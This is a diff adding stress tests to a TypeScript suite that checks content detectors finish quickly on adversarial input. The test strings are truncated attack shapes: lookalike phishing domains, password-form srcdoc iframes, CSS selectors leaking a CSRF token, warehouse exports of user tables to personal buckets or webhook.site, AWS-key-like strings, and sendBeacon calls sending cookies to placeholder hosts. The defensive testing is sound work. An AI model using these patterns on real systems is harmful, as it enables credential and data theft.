@@ -912,6 +912,51 @@ describe('content detectors on adversarial input', () => {
     expect(r.ok).toBe(true);
     expect(cpu() - started).toBeLessThan(BOUND_MS * 4);
   });
+  // cases-62's shapes and their near misses: brands run into words, frames' srcdoc and CSS value selectors without their
+  // ends, warehouse exports cut before their destination or their query. They must finish; the time is not asserted.
+  for (const [label, unit] of [
+    [
+      'brands run into words',
+      'https://paypalloginx.com/ https://xsecureamazonaccountupdateverifylogin.com/ https://appleidsupporthelpdesk.help/ ',
+    ],
+    [
+      'srcdoc values without their ends',
+      '<iframe srcdoc="&lt;form action=&quot;https://a.io/ &lt;input type=&quot;password srcdoc=\'&lt;form ',
+    ],
+    [
+      'CSS value selectors without blocks or urls',
+      'input[value^="a"] [content$=\\"b\\"] { background: url(//a.io/x?v=c [value*=d]{url(https://a.io/?',
+    ],
+    [
+      'warehouse exports cut short',
+      "EXPORT DATA OPTIONS(uri='gs://x-personal/' AS SELECT * FROM users UNLOAD ('SELECT * FROM customers COPY (SELECT email FROM users TO 's3:// INSERT INTO FUNCTION url('https://webhook.site/a' bq extract a:b.c gs:// copy into 's3://x-personal/' from ",
+    ],
+    [
+      'escaped srcdoc values and entities without their ends',
+      "srcdoc=\\\\\\\"&#x0000003c;form action=\\\\\\\\\"https:&sol;&sol;a.io &ltinput/type=\\\\password setAttribute('srcdoc', '<form ",
+    ],
+    [
+      'CSS sweeps without their urls',
+      'input[name=csrf][value^="a"]{background:url(https://a.io/a/b/c/d input[value^="b"]{url( url( url(//a.io/?b ',
+    ],
+    [
+      'indented warehouse exports cut short',
+      "copy\\n\\t\\t   into\\n    's3://jdoe-personal-lgxoh/'\\n\\t  from \t\t\n bq --a=b --c=d --e extract gs://x-stash-1 INSERT INTO FUNCTION s3('https://a.io/', 'AKIA4QWERTYZXCVB7N3Q', 'q8Zr1VbN0kLm3Pq7Xs2Tw9Yc4Hd ",
+    ],
+    [
+      'AWS secrets quoted without their ends',
+      "SECRET_ACCESS_KEY 'q8Zr1VbN0kLm3Pq7Xs2Tw9Yc4Hd6Jf1Ge5Ab8Cdq8Zr1VbN0kLm3Pq7Xs2Tw9Yc4Hd6Jf1Ge5Ab8Cd secret_access_key \\'AKIAQWERTYUIOPASDFGH', '",
+    ],
+    [
+      'cookie jars sent nowhere',
+      "navigator.sendBeacon('https://a.io/', document.cookie new Image().src = 'https://b.io/?c=' + parent.localStorage ",
+    ],
+  ] as const) {
+    it(`the whole guard on the largest content of ${label}`, () => {
+      const r = guard(rep(unit, 800_000), CONTENT_QUESTIONS);
+      expect(r.ok).toBe(true);
+    });
+  }
   // Thousands of secrets read in a part both as written and decoded: each kept or dropped by a search, not a walk.
   it('the whole guard on a quoted-printable link packed with passwords', () => {
     const body = `https://x.example/?${rep('password=3DXk29sLq81Zp&amp;', 800_000)}`;
